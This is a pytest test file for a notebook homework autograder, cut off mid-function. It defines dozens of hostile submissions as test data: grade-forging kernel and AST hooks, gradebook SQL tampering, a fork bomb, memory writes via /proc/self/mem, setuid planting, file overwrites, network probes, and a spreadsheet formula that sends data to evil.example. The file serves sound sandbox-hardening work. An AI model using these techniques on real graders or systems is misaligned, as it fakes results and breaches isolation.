"""Homework: the student version leaks no solution and keeps no output; autograding (on a tiny
fixture notebook, each submission in its own sandbox) gives full marks to the solutions, the right
score and reason to each broken submission, and no unearned point and no harm to anyone for
each hostile one."""

from __future__ import annotations

import copy
import csv
import glob
import hashlib
import json
import os
import re
import shutil
import socket
import stat
import sqlite3
import subprocess
import tempfile
import threading
import time
import warnings
import zipfile
from pathlib import Path

import nbformat
import pytest
from nbformat.warnings import DuplicateCellId

from grader import homework
from grader.homework import NOTEBOOKS, Limits, SandboxUnavailable, autograde, graded_notebooks, make_student

TINY = Path(__file__).parent / "fixtures" / "homework"
NB = "00_tiny"

BEGIN, END = "### BEGIN SOLUTION", "### END SOLUTION"


def _solution_lines(nb) -> set[str]:
    """Lines inside solution regions that appear nowhere else in the teacher notebook."""
    inside, outside = set(), []
    for c in nb.cells:
        region = False
        for line in c.source.splitlines():
            s = line.strip()
            if s.startswith(BEGIN):
                region = True
            elif s.startswith(END):
                region = False
            elif region:
                inside.add(s)
            else:
                outside.append(s)
    rest = "\n".join(outside)
    return {s for s in inside if len(s) >= 10 and s not in rest}


def _all_strings(obj) -> str:
    if isinstance(obj, str):
        return obj
    if isinstance(obj, dict):
        return "\n".join(_all_strings(v) for v in obj.values()) + "\n" + "\n".join(obj)
    if isinstance(obj, list):
        return "\n".join(_all_strings(v) for v in obj)
    return str(obj)


@pytest.fixture(scope="module")
def student(tmp_path_factory) -> Path:
    """make_student over every real notebook, once for this module."""
    build = tmp_path_factory.mktemp("build")
    make_student(build / "student", build=build)
    return build / "student"


def test_every_notebook_has_exercises():
    names = {p.stem for p in graded_notebooks()}
    assert names == {p.stem for p in NOTEBOOKS.glob("[0-9][0-9]_*.ipynb")}, "a notebook has no graded exercise"


@pytest.mark.slow
def test_student_version_leaks_no_solution(student):
    for teacher in graded_notebooks():
        lines = _solution_lines(nbformat.read(teacher, as_version=4))
        assert lines, f"{teacher.name}: found no solution lines to check"
        text = _all_strings(json.loads((student / teacher.name).read_text()))  # sources, outputs, metadata
        leaked = sorted(s for s in lines if s in text)
        assert not leaked, f"{teacher.name}: solution lines in the student version: {leaked[:3]}"
        assert "raise NotImplementedError()" in text


@pytest.mark.slow
def test_student_version_has_no_outputs(student):
    for path in student.glob("*.ipynb"):
        for c in nbformat.read(path, as_version=4).cells:
            if c.cell_type == "code":
                assert c.outputs == [] and c.execution_count is None, f"{path.name} keeps outputs"




@pytest.mark.slow
def test_student_zip_has_what_a_student_needs_and_no_solution(student, tmp_path):
    """The zip a teacher hands out: student notebooks, helpers, checkpoints, README; no solution line
    of any notebook anywhere in it (the .py twins and the repository's notebooks stay out)."""
    out = homework.student_zip(student, tmp_path / "hand-out.zip")
    with zipfile.ZipFile(out) as z:
        names = set(z.namelist())
        texts = {Path(n).name: _all_strings(json.loads(z.read(n))) for n in names if n.endswith(".ipynb")}
    top = "generation-student/"
    assert {f"{top}notebooks/{p.name}" for p in NOTEBOOKS.glob("[0-9][0-9]_*.ipynb")} == {
        n for n in names if n.startswith(f"{top}notebooks/")}
    assert {f"{top}helpers/registry.py", f"{top}README.md", f"{top}Makefile", f"{top}pyproject.toml",
            f"{top}data/checkpoints/pixel_lstm512.pt", f"{top}DATA.md", f"{top}LICENSE",
            f"{top}scripts/torch_index.py", f"{top}data/text/series_prose.txt",
            f"{top}benchmarks/latest.json"} <= names  # what `make lab` runs, and what 08 reads
    assert not any("pokemon/" in n for n in names), "the Pokémon data is never shipped"
    assert not any(n.startswith(f"{top}notebooks/") and not n.endswith(".ipynb") for n in names), ".py twins"
    for teacher in graded_notebooks():  # (helpers/ may share a line with a solution: it ships anyway)
        leaked = sorted(s for s in _solution_lines(nbformat.read(teacher, as_version=4)) if s in texts[teacher.name])
        assert not leaked, f"{teacher.name}: solution lines in the zip: {leaked[:3]}"
    assert not list(tmp_path.glob("*.part")), "a temporary file was left behind"


def test_student_zip_needs_a_student_build(tmp_path):
    with pytest.raises(FileNotFoundError, match="run `make student` first"):
        homework.student_zip(tmp_path, tmp_path / "x.zip")
    assert not (tmp_path / "x.zip").exists()


# ---------------------------------------------------------------- autograding the tiny notebook
def _by_id(nb, gid):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


def _index(nb, gid):
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == gid)


class _Listener:
    """A TCP server on 127.0.0.1 that counts connections (a sandboxed submission must make none)."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            conn.close()


class _UnixListener(_Listener):
    """A Unix socket server on the host that counts connections: a submission swaps its kernel's
    sockets for links to it, and the grader must never connect to it."""

    def __init__(self, path: Path):
        self.path = path
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.bind(str(path))
        self.sock.listen()
        self.accepted = 0
        threading.Thread(target=self._serve, daemon=True).start()


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else "absent"


TOKEN = "homework-daemon-7c1e"  # in the daemon's command line: no process may keep it


def _attacks(paths: dict[str, Path], port: int, unix: Path) -> dict[str, tuple[str, str]]:
    """name -> (code put in place of ex1's solution, code put in place of ex2's); stubs elsewhere."""
    stub1 = "raise NotImplementedError()"
    stub2 = "def double(xs):\n    raise NotImplementedError()"
    p = {k: str(v) for k, v in paths.items()}
    daemon = (f"import time\nfor _ in range(300):\n    time.sleep(0.1)\n    try:\n"
              f"        open({p['csv']!r}, 'w').write('student,notebook,exercise,points,max_points,reason\\n')\n"
              f"    except OSError:\n        pass\n# {TOKEN}")
    return {
        # builtins shadowed: without the reset, ex2's test would pass with this object
        "mallory_builtins": (
            "n_distinct = 0\nlen = lambda *a: 0",
            "class Yes(list):\n    def __eq__(self, other):\n        return True\n\n"
            "def double(xs):\n    return Yes()\n\n"
            "type = lambda x: list if isinstance(x, Yes) else int\nall = lambda it: True"),
        # an int subclass whose __eq__ is always true
        "mallory_int": ("class Int(int):\n    def __eq__(self, other):\n        return True\n"
                        "    __hash__ = int.__hash__\n\nn_distinct = Int(0)", stub2),
        # every later cell becomes `pass`
        "mallory_transformer": ("get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n"
                                "n_distinct = None", stub2),
        # AST transformer, custom exception handler, silenced tracebacks, a trace function
        "mallory_hooks": ("import ast, sys\nclass Nop(ast.NodeTransformer):\n"
                          "    def visit_Module(self, node):\n        return ast.Module(body=[ast.Pass()], type_ignores=[])\n"
                          "ip = get_ipython()\nip.ast_transformers.append(Nop())\n"
                          "ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n"
                          "ip.showtraceback = lambda *a, **k: None\n"
                          "try:\n    sys.settrace(lambda *a: None)\nexcept RuntimeError as e:  # refused since round 28\n"
                          "    print('refused:', e)\nn_distinct = None", stub2),
        # full marks for me, zero for everyone else, straight into the gradebook
        "mallory_gradebook": (
            "import sqlite3\ntry:\n"
            f"    con = sqlite3.connect({p['gradebook']!r})\n"
            "    con.execute('UPDATE grade SET manual_score = 0')\n"
            "    con.execute(\"UPDATE grade SET manual_score = 1 WHERE notebook_id IN (SELECT id FROM "
            "submitted_notebook WHERE student_id = 'mallory_gradebook')\")\n    con.commit()\n"
            "except Exception as e:\n    print('gradebook:', e)\nn_distinct = None", stub2),
        # a detached process that outlives the run and rewrites the CSV
        "mallory_daemon": (
            "import subprocess, sys\n"
            f"subprocess.Popen([sys.executable, '-c', {daemon!r}], start_new_session=True,\n"
            "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\nn_distinct = None", stub2),
        # a fork bomb (of sleepers, to spare the CPU): stopped by the process limit
        "mallory_forks": (
            "import os, time\nkids = 0\ntry:\n    for _ in range(2000):\n        if os.fork() == 0:\n"
            "            time.sleep(60)\n            os._exit(0)\n        kids += 1\nexcept OSError as e:\n"
            "    print('fork refused after', kids, e)\nn_distinct = None", stub2),
        # files outside its own folder: the repository, build/, a classmate's submission
        "mallory_files": (
            "for target in " + repr([p["repo_file"], p["build_file"], p["alice"], p["csv"]]) + ":\n"
            "    try:\n        open(target, 'w').write('pwned')\n        print(target, 'written')\n"
            "    except OSError as e:\n        print(target, e)\nn_distinct = None", stub2),
        # the network: the test's server on 127.0.0.1, and an outside address
        "mallory_net": (
            "import socket\nfor addr in [('127.0.0.1', %d), ('1.1.1.1', 53)]:\n    try:\n"
            "        socket.create_connection(addr, timeout=2).send(b'x')\n"
            "    except OSError as e:\n        print(addr, e)\nn_distinct = None" % port, stub2),
        # exhaust memory, then answer ex2 correctly: the kernel survives and ex2 counts
        "mallory_memory": ("hog = bytearray(64 << 30)\nn_distinct = 7",
                           "def double(xs):\n    return [2 * x for x in xs]"),
        # 5 MB of output: the grader keeps 2 MB, the answer still counts
        "mallory_output": ("print('x' * (5 << 20))\nn_distinct = len(set(values))", stub2),
        # forged replies: Session.send drops errors and turns error replies into ok, patched in the
        # solution cell (ex1) and again while the test runs (ex2)
        "mallory_forge_send": (FORGE_SEND + "\nn_distinct = None",
                               "def double(xs):\n" + _indent(FORGE_SEND) + "\n    return None"),
        # forged replies: do_execute overridden on the kernel, answering ok without running anything
        "mallory_forge_execute": (
            "k = get_ipython().kernel\n"
            "async def do_execute(code, silent, store_history=True, user_expressions=None, allow_stdin=False, **kw):\n"
            "    return {'status': 'ok', 'execution_count': k.execution_count, 'payload': [], 'user_expressions': {}}\n"
            "k.do_execute = do_execute\nn_distinct = None", stub2),
        # forged replies: tracebacks silenced (sys.excepthook, showtraceback), before and during the test
        "mallory_forge_excepthook": (SILENCE + "\nn_distinct = None",
                                     "def double(xs):\n" + _indent(SILENCE) + "\n    raise ValueError('hidden')"),
        # a setuid copy of a binary and a world-writable file in every folder it can write (the
        # connection file's folder is read-only; the socket folder is the sandbox's own tmpfs),
        # then it waits: meanwhile the test looks for them and tries to reach them as another user
        "mallory_setuid": (
            "import os, shutil, sys, time\nconn = os.path.dirname(sys.argv[sys.argv.index('-f') + 1])\n"
            "sockets = os.path.join(os.path.dirname(conn), 's')\n"
            "planted = []\nfor d in [conn, sockets, os.path.dirname(conn), os.environ['HOME'], '/tmp']:\n"
            "    for name, mode in (('id-setuid', 0o4755), ('world-writable', 0o777)):\n"
            "        try:\n            shutil.copy('/usr/bin/id', os.path.join(d, name))\n"
            "            os.chmod(os.path.join(d, name), mode)\n            planted.append(os.path.join(d, name))\n"
            "        except OSError as e:\n            print(d, e)\n"
            "    try:\n        os.chmod(d, 0o777)\n    except OSError as e:\n        print(d, e)\n"
            "print('planted', len(planted))\ntime.sleep(7)\nn_distinct = None", stub2),
        # 15 files of 60 MB in $HOME: a tmpfs of 256 MB, not the host's disk; then the same in the
        # folder that holds its sockets (a tmpfs of 1 MiB), in /dev/shm (64 MiB) and in /dev (read-only)
        "mallory_disk": (
            "import os, sys\nsockets = os.path.join(os.path.dirname(os.path.dirname(sys.argv[sys.argv.index('-f') + 1])), 's')\n"
            "for where in (os.path.expanduser('~'), sockets, '/dev/shm', '/dev'):\n"
            "    for i in range(15):\n        try:\n"
            "            with open(os.path.join(where, f'f{i}'), 'wb') as f:\n                f.write(bytes(60 << 20))\n"
            "        except OSError as e:\n"
            "            print({sockets: 'sockets', '/dev/shm': 'shm', '/dev': 'dev'}.get(where, 'home'), 'full after', i,\n"
            "                  'files:', e.strerror)\n"
            "            break\n"
            "n_distinct = len(set(values))", stub2),
        # two 512 MB buffers sent on iopub: refused at the socket, never in the grader's memory
        "mallory_buffers": (
            "k = get_ipython().kernel\nfor _ in range(2):\n"
            "    k.session.send(k.iopub_socket, 'display_data', {'data': {'text/plain': 'big'}, 'metadata': {}},\n"
            "                   parent=k.get_parent(), buffers=[bytes(512 << 20)])\n"
            "n_distinct = len(set(values))", stub2),
        # forged signatures: do_execute overridden to echo the marker line's last word as the token
        # (no frames, no tell-tale names), or to hand the real do_execute an empty test instead
        "mallory_echo": (ECHO + "\nn_distinct = None", stub2),
        "mallory_swap": (SWAP + "\nn_distinct = None", stub2),
        # the reset switched off, and the check after the test emptied: both refused
        "mallory_norestore": (
            "K = type(get_ipython().kernel)\nS = K.do_execute.__globals__['_Snapshot']\nreal = S.restore\n"
            "S.restore = lambda self, kernel: None\nS.changed = lambda self, kernel: []\n"
            "try:\n    real.__code__ = (lambda self, kernel: None).__code__\n"
            "except RuntimeError as e:\n    print('refused:', e)\n"
            "n_distinct = 0\nlen = lambda *a: 0", stub2),
        # the marker read from the request while the test runs, printed as the token; replies forged
        "mallory_parent": (stub1, "def double(xs):\n    k = get_ipython().kernel\n"
                           "    print('grader-passed:' + k.get_parent()['content']['code'].split(chr(10))[0].split()[-1])\n"
                           + _indent(FORGE_SEND) + "\n    return [0]"),
        # builtins patched by the answer while the test runs: the test passes, and is not counted
        "mallory_midtest": (stub1, "class Yes(list):\n    def __eq__(self, other):\n        return True\n\n"
                            "def double(xs):\n    import builtins\n"
                            "    builtins.type = lambda x: list if isinstance(x, Yes) else int\n"
                            "    builtins.all = lambda it: True\n    return Yes()"),
        # a timer that shadows `type` again after the reset; an audit hook that would patch abs
        "mallory_timer": (
            "import signal\nclass Int(int):\n    def __eq__(self, other):\n        return True\n"
            "    __hash__ = int.__hash__\n\n_ns = globals()\n"
            "def _again(*a):\n    _ns['type'] = lambda x: int\n\n"
            "signal.signal(signal.SIGALRM, _again)\nsignal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)\n"
            "n_distinct = Int(0)", stub2),
        "mallory_audit": (
            "import builtins, sys\ndef _hook(event, args):\n    if event == 'exec':\n"
            "        builtins.abs = lambda v: 0\n\ngetattr(sys, 'add' + 'audithook')(_hook)\nexec('1')\n"
            "print('audit hook active:', abs(-1) == 0)\nn_distinct = None", stub2),
        # its sockets swapped for links to one of the host's: the grader must never follow them
        "mallory_symlink": (
            "import json, os, sys\ninfo = json.load(open(sys.argv[sys.argv.index('-f') + 1]))\n"
            "for port in ('shell_port', 'iopub_port', 'stdin_port', 'hb_port', 'control_port'):\n"
            "    path = f\"{info['ip']}-{info[port]}\"\n    os.unlink(path)\n"
            f"    os.symlink({str(unix)!r}, path)\n"
            "print('linked', sorted(os.listdir(os.path.dirname(info['ip']))))\nn_distinct = None", stub2),
        # asserts taken out of every later cell: by the shell's compiler swapped for a subclass, by the
        # shell's class changed, by its input transformer manager swapped, or by switching them off
        # for the interpreter (optimization_level); each is put back before the test
        "mallory_compiler": (
            "import ast\nfrom IPython.core.compilerop import CachingCompiler\n"
            "class _C(CachingCompiler):\n    def ast_parse(self, source, filename='<unknown>', symbol='exec'):\n"
            "        class _T(ast.NodeTransformer):\n            def visit_Assert(self, node):\n                return ast.Pass()\n"
            "        return ast.fix_missing_locations(_T().visit(super().ast_parse(source, filename, symbol)))\n"
            "_ip = get_ipython()\n_new = _C()\n_new.__dict__.update(_ip.compile.__dict__)\n_ip.compile = _new\n"
            "n_distinct = 3", stub2),
        "mallory_class": (
            "import ast\nclass _T(ast.NodeTransformer):\n    def visit_Assert(self, node):\n        return ast.Pass()\n\n"
            "_ip = get_ipython()\nclass _S(type(_ip)):\n    def transform_ast(self, node):\n"
            "        return ast.fix_missing_locations(_T().visit(node))\n\n_ip.__class__ = _S\nn_distinct = 3", stub2),
        "mallory_manager": (
            "import re\nfrom IPython.core.inputtransformer2 import TransformerManager\n"
            "class _TM(TransformerManager):\n    def transform_cell(self, cell):\n"
            "        return re.sub(r'(?m)^(\\s*)assert\\b.*$', r'\\1pass', super().transform_cell(cell))\n\n"
            "get_ipython().input_transformer_manager = _TM()\nn_distinct = 3", stub2),
        "mallory_optimize": (
            "import _testinternalcapi as _t\n_c = _t.get_config()\n_c['optimization_level'] = 1\n_t.set_config(_c)\n"
            "n_distinct = 3", stub2),
        # third round: the notebook's namespace swapped for a dict subclass that fakes `type` and `all`
        "mallory_namespace": (
            "class Int(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n\n"
            "class Yes(list):\n    def __eq__(self, other):\n        return True\n\n_t = type\n"
            "_FAKE = {'type': lambda x: {Int: int, Yes: list}.get(_t(x), _t(x)), 'all': lambda it: True}\n"
            "class NS(dict):\n    def __getitem__(self, k):\n        return _FAKE[k] if k in _FAKE else dict.__getitem__(self, k)\n\n"
            "_ip = get_ipython()\n_ip.user_ns = NS(_ip.user_ns)\nn_distinct = Int(3)",
            "def double(xs):\n    return Yes()"),
        # int.__eq__ patched through ctypes (the immutable-type flag cleared by address): refused
        "mallory_ctypes": (
            "import ctypes\n_flags = ctypes.c_ulong.from_address(id(int) + 168)\n_flags.value &= ~(1 << 8)\n"
            "n_distinct = 3", stub2),
        # 3 x 6 MB of display updates and a 6 MB execution count (under the 8 MB cap on a message part): past the
        # output budget unless dropped
        "mallory_bloat": (
            "from IPython.display import display\nhs = [display('small', display_id=True) for _ in range(3)]\n"
            "big = 'A' * (6 << 20)\nfor h in hs:\n    h.update(big)\nk = get_ipython().kernel\n"
            "k.session.send(k.iopub_socket, 'execute_input', {'code': '', 'execution_count': big},\n"
            "               parent=k.get_parent(), ident=k._topic('execute_input'))\n"
            "k.session.send(k.iopub_socket, 'comm_msg', {'comm_id': 'w', 'data': {'state': {'k': big}}},\n"
            "               parent=k.get_parent(), ident=k._topic('comm_msg'))\ndel big\nn_distinct = 7", stub2),
        # round 4: a function's code swapped in place (the object stays the same): refused
        "mallory_codeswap": (
            "from IPython.core.interactiveshell import InteractiveShell as S, ExecutionResult as R\n"
            "for f, new in ((R.success.fget, lambda self: True), (S.showtraceback, lambda *a, **k: None)):\n"
            "    try:\n        f.__code__ = new.__code__\n    except RuntimeError as e:\n        print('refused:', e)\n"
            "try:\n    S.run_cell.__defaults__ = (False, True, False, None)\nexcept RuntimeError as e:\n    print('refused:', e)\n"
            "import gc\ntry:\n    gc.get_referents(dict.__dict__)\nexcept RuntimeError as e:\n    print('refused:', e)\n"
            "n_distinct = 0", "def double(xs):\n    return [0]"),
        # round 4: the session's packer (a trait, not in the object's __dict__) swapped for one that
        # writes a lone surrogate into what the grader reads, to break the CSV; then a patch mid-test
        "mallory_pack": (
            "import json\nget_ipython().kernel.session.pack = (lambda o: json.dumps(o, default=str)"
            ".replace('builtins.min', '\\\\ud800').encode())\nn_distinct = 7",
            "def double(xs):\n    import builtins\n    builtins.min = max\n    return [2 * x for x in xs]"),
        # round 22: a trace function, set during the test, empties the check's findings in its frames (refused since round 28)
        "mallory_trace": (stub1, TRACER),
        # round 23: a finaliser, run when the check takes its object out of builtins, does the same
        "mallory_finaliser": (stub1, FINALISER),
        # round 25: a class below the grader's own _Snapshot whose key would answer when _Snapshot is put back
        "mallory_stuck": (STUCK, "def double(xs):\n    return [2 * x for x in xs]"),
        # round 26: a library class below which the check cannot put a patch back: the check stops there
        "mallory_blocked": (BLOCKED, "def double(xs):\n    from IPython.core.interactiveshell import InteractiveShell\n"
                                     "    InteractiveShell.showtraceback = lambda *a, **k: None\n"
                                     "    return [2 * x for x in xs]"),
        # round 27: a failed test made to reply ok (ExecutionResult.success, showtraceback), and the patches put
        # back by code the kernel runs before the check: a builtin it called (any; bool, once stuck), a table of the
        # grader's own changed in place
        "mallory_any": (stub1, FORGE_OK + ANY),
        "mallory_bool": ("n_distinct = len(set(values))", FORGE_OK + BOOL),
        "mallory_table": (stub1, FORGE_OK + TABLE),
        # round 28: this cell's ExecutionResult given a class whose success is True (the reply says ok) and the failed
        # assert's error sent with no parent (nbclient drops it): nothing the check compares changed. And round 27's
        # note: a success getter that puts the patches back, itself included, when ipykernel reads it after the test.
        # The kernel then signed only a test whose last statement ran (EndOfTest; since round 31 an exec that raised nothing)
        "mallory_result": (stub1, RESULT),
        "mallory_selfundo": (stub1, FORGE_OK + SELF_UNDO),
        # round 28, found while fixing: a trace function rewrites the test's own variables before each of its lines,
        # then takes itself off as the test ends; the kernel now refuses sys.settrace (its audit hook)
        "mallory_rewrite": (stub1, REWRITE),
        # round 29: student code run between the reset and the test's transform swapped the kernel's EndOfTest for a
        # wrapper that calls it and then turns every assert into pass: a dict subclass as the shell's compiler's
        # _filename_map (IPython writes to it as the cell starts), or a finaliser at the collection gc_on() allowed
        "mallory_filename_map": (stub1, SWAP_END + "get_ipython().compile._filename_map = _Map(get_ipython().compile._filename_map)"),
        "mallory_gc_swap": (stub1, SWAP_END + GC_ARM),
        # round 30: IPython ran the student's code as the test cell started, after the reset and before its
        # transform: a logger's file (None at the snapshot), a trait that is a str subclass (its __eq__ rewrote
        # the tree after the transform), a library function's __annotations__ (ipykernel's inspect.signature)
        "mallory_logger": (stub1, ARM + "class _Log:\n    def write(self, data):\n"
                                  "        if 'double([-5, 0, 11])' in data:\n            _arm()\n"
                                  "    def flush(self):\n        pass\n"
                                  "get_ipython().logger.logfile = _Log()\nget_ipython().logger.log_active = True\n" + WRONG),
        "mallory_interactivity": (stub1, INTERACTIVITY + WRONG),
        "mallory_annotations": (stub1, ARM + "from IPython.core.interactiveshell import InteractiveShell as _S\n"
                                       "class _A(dict):\n    def __len__(self):\n        _arm()\n"
                                       "        return dict.__len__(self)\n"
                                       "_S.run_cell_async.__annotations__ = _A(_S.run_cell_async.__annotations__)\n" + WRONG),
        # round 30: all's C function swapped for id's through /proc/self/mem (the same object: no check sees it)
        "mallory_procmem": (stub1, PROCMEM),
        # found while fixing round 30: the same swap from a child, a fresh interpreter without the audit hook, by
        # process_vm_writev (allowed for a process of the same user until the kernel made itself not dumpable)
        "mallory_pvm": (stub1, PVM),
        # round 31: round 30's kernel built the test's wrapper from ast's classes (a tuple subclass as ast.If._fields ran
        # the student's code there) and called its end-of-test function by a name the test's callees could rebind
        "mallory_fields": (stub1, FIELDS),
        "mallory_endcall": (stub1, ENDCALL),
        # an exception class named like a spreadsheet formula ends up in the reason
        "mallory_csv": (stub1, "def double(xs):\n    raise type(" + repr(FORMULA) + ", (Exception,), {})()"),
    }


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click here")'
TRACER = """def double(xs):
    import builtins, sys
    builtins.min = max
    def tracer(frame, event, arg):
        f = frame
        while f is not None:
            if f.f_code.co_name in ("changed", "put_back_first", "do_execute"):
                for name in ("out", "patched"):
                    if type(f.f_locals.get(name)) is list:
                        f.f_locals[name].clear()
            f = f.f_back
        return tracer
    sys.settrace(tracer)
    return [2 * x for x in xs]"""
FINALISER = """def double(xs):
    import builtins, sys
    builtins.min = max
    class Eraser:
        def __del__(self):
            f = sys._getframe()
            while f is not None:
                for name in ("out", "patched"):
                    if type(f.f_locals.get(name)) is list:
                        f.f_locals[name].clear()
                f = f.f_back
    builtins._eraser = Eraser()
    return [2 * x for x in xs]"""
FORGE_OK = """import builtins, sys
from IPython.core.interactiveshell import InteractiveShell, ExecutionResult
_success, _tb = vars(ExecutionResult)["success"], vars(InteractiveShell)["showtraceback"]
def _forge():  # the failed assert then replies ok and shows no error
    ExecutionResult.success = property(lambda self: True)
    InteractiveShell.showtraceback = lambda *a, **k: None
def _undo():
    ExecutionResult.success, InteractiveShell.showtraceback = _success, _tb
"""
ANY = """_any = builtins.any
def _spy(it):
    if sys._getframe(1).f_code.co_name == "own_globals":  # the kernel, after the test, before the check
        _undo()
        builtins.any = _any
    return _any(it)
def double(xs):
    _forge()
    builtins.any = _spy
    return [0]"""
BOOL = """class _MetaShell(type(InteractiveShell)):  # the reset before the test cannot put InteractiveShell back:
    def mro(cls):  # stuck, so no check runs after the test and puts builtins back
        return super().mro()
class _Below(InteractiveShell, metaclass=_MetaShell):
    pass
InteractiveShell.showtraceback = lambda *a, **k: None
_bool = builtins.bool
class _Meta(type):
    def __call__(cls, x=False):
        return False if sys._getframe(1).f_code.co_name == "do_execute" else _bool(x)
def double(xs):
    _forge()
    builtins.bool = _Meta("bool", (), {})
    return [0]"""
TABLE = """import grader.contents as _gc
_real, _armed, _got = dict(_gc._FUNC)[staticmethod], [], []
class _Grab:  # comparing a mappingproxy with it hands it the dict underneath
    def __eq__(self, other):
        _got.append(other)
        return False
_gc._FUNC == _Grab()
_table = _got[0] if _got and type(_got[0]) is dict else _gc._FUNC
def _put_back(v):
    if _armed:  # the check reads every library staticmethod through this table
        _armed.clear()
        _undo()
        _table[staticmethod] = _real
        f = sys._getframe(1)
        while f is not None and f.f_code.co_name != "do_execute":  # what the check found so far: emptied
            if type(f.f_locals.get("out")) is list:
                f.f_locals["out"].clear()
            f = f.f_back
    return _real(v)
try:
    _table[staticmethod] = _put_back
except TypeError as e:
    print("refused:", e)
def double(xs):
    _armed.append(1)
    _forge()
    return [0]"""
RESULT = """def double(xs):
    ip = get_ipython()
    res = ip.displayhook.exec_result  # this cell's ExecutionResult, made after the snapshot
    res.__class__ = type("R", (type(res),), {"success": True})  # plain data: ipykernel's `if res.success` says ok
    ip.displayhook.parent_header = {}  # the failed assert's error goes out with no cell's parent
    return [0]"""
REWRITE = """import sys
def _fix(frame, event, arg):
    g = frame.f_globals
    if frame.f_code.co_name == "<module>" and "out" in g:  # before each line of the test: the answers it wants
        g["out"], g["got"] = [2, 4, 6], [-10, 0, 22]
        if event == "return" and "got" in frame.f_code.co_names:
            sys.settrace(None)  # gone before the check looks
    return _fix
def double(xs):
    sys.settrace(_fix)
    return [0]"""
SWAP_END = """import ast as _ast
def double(xs):
    return [0]
class _Tx(_ast.NodeTransformer):  # rounds 28-30: the kernel's EndOfTest still added its call; every assert became pass
    def __init__(self, real, ts):
        self.real, self.ts = real, ts
    def visit(self, node):
        for i in range(len(self.ts)):
            if self.ts[i] is self:
                del self.ts[i]
                break
        return _ast.fix_missing_locations(_ast.NodeTransformer.visit(self, self.real.visit(node)))
    def visit_Assert(self, node):
        return _ast.copy_location(_ast.Pass(), node)
def _swap():
    ts = get_ipython().ast_transformers
    if len(ts) and type(ts[-1]).__name__ == "EndOfTest":
        ts[-1] = _Tx(ts[-1], ts)
class _Map(dict):
    def __setitem__(self, k, v):
        _swap()
        dict.__setitem__(self, k, v)
"""
GC_ARM = """import gc as _gc
class _Arm:
    def __del__(self):
        _swap()
        _rearm()
def _rearm():
    a = _Arm()
    a.me = a  # garbage in a cycle: its finaliser runs at the next collection
_rearm()
_gc.set_threshold(10)"""
ARM = """import ast as _ast
from IPython.core.interactiveshell import InteractiveShell as _IS
class _NoAsserts(_ast.NodeTransformer):
    def visit_Assert(self, node):
        return _ast.copy_location(_ast.Pass(), node)
def _arm():  # the shell's transform_ast wrapped for one call: every assert of the test becomes pass
    ip = get_ipython()
    def transform_ast(node):
        del ip.transform_ast
        node = _IS.transform_ast(ip, node)
        if "double" in _ast.dump(node):
            node = _ast.fix_missing_locations(_NoAsserts().visit(node))
        return node
    ip.transform_ast = transform_ast
"""
WRONG = """def double(xs):
    return [0]"""
INTERACTIVITY = """import ast as _ast, sys as _sys
class _NoAsserts(_ast.NodeTransformer):
    def visit_Assert(self, node):
        return _ast.copy_location(_ast.Pass(), node)
class _I(str):  # the trait accepts a str subclass; run_ast_nodes compares it after the transform
    def __eq__(self, o):
        f = _sys._getframe(1)
        nodes = f.f_locals.get("nodelist")
        if f.f_code.co_name == "run_ast_nodes" and nodes and "double" in _ast.dump(nodes[0]):
            for n in nodes:
                _NoAsserts().visit(n)
                _ast.fix_missing_locations(n)
        return str.__eq__(self, o)
    __hash__ = str.__hash__
get_ipython().ast_node_interactivity = _I("last_expr")
"""
PROCMEM = """class Yes:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
def _peek(addr, n):
    with open("/proc/self/mem", "rb", buffering=0) as m:
        m.seek(addr)
        return m.read(n)
def _poke(addr, data):
    with open("/proc/self/mem", "r+b", buffering=0) as m:
        m.seek(addr)
        m.write(data)
def double(xs):
    _poke(id(all) + 16, _peek(id(id) + 16, 8))  # all's C function := id's: all(anything) is a nonzero int
    return [Yes() for _ in xs]"""
PVM = r'''import os, subprocess, sys
class Yes:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
CHILD = """import ctypes, sys
class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc = ctypes.CDLL(None, use_errno=True)
pid, src, dst = map(int, sys.argv[1:])
buf = ctypes.create_string_buffer(8)
def move(f, remote):
    local, far = Iovec(ctypes.addressof(buf), 8), Iovec(remote, 8)
    return f(pid, ctypes.byref(local), 1, ctypes.byref(far), 1, 0)
print(move(libc.process_vm_readv, src), move(libc.process_vm_writev, dst), ctypes.get_errno())
"""
def double(xs):  # a fresh interpreter, with no audit hook, copies id's C function over all's in the kernel
    args = [str(v) for v in (os.getpid(), id(id) + 16, id(all) + 16)]
    print(subprocess.run([sys.executable, "-c", CHILD, *args], capture_output=True, text=True).stdout)
    return [Yes() for _ in xs]'''
FIELDS = """import ast
_orig = ast.If._fields
def _drop_asserts(node):  # the compile reads the If's body through this property: no assert left
    body = node.__dict__["body"]
    del ast.If.body
    ast.If._fields = _orig
    return [s for s in body if type(s) is not ast.Assert]
class _Fields(tuple):  # ast's C constructors read a class's _fields through __getitem__
    def __getitem__(self, i):
        if i == 2:
            ast.If.body = property(_drop_asserts)
        return tuple.__getitem__(self, i)
ast.If._fields = _Fields(_orig)
def double(xs):
    return [0]"""
ENDCALL = """import builtins
_real_type = builtins.type
class _Wrong:  # holds [0]; says it equals anything
    def __init__(self, v):
        self.v = v
    def __eq__(self, other):
        return True
    def __iter__(self):
        return iter(self.v)
def _lying_type(*a):
    return list if len(a) == 1 and _real_type(a[0]) is _Wrong else _real_type(*a)
def double(xs):
    if builtins.type is not _lying_type:
        builtins.type = _lying_type
        g = globals()
        names = [k for k in g if k.startswith("_grader_end_of_test_")]
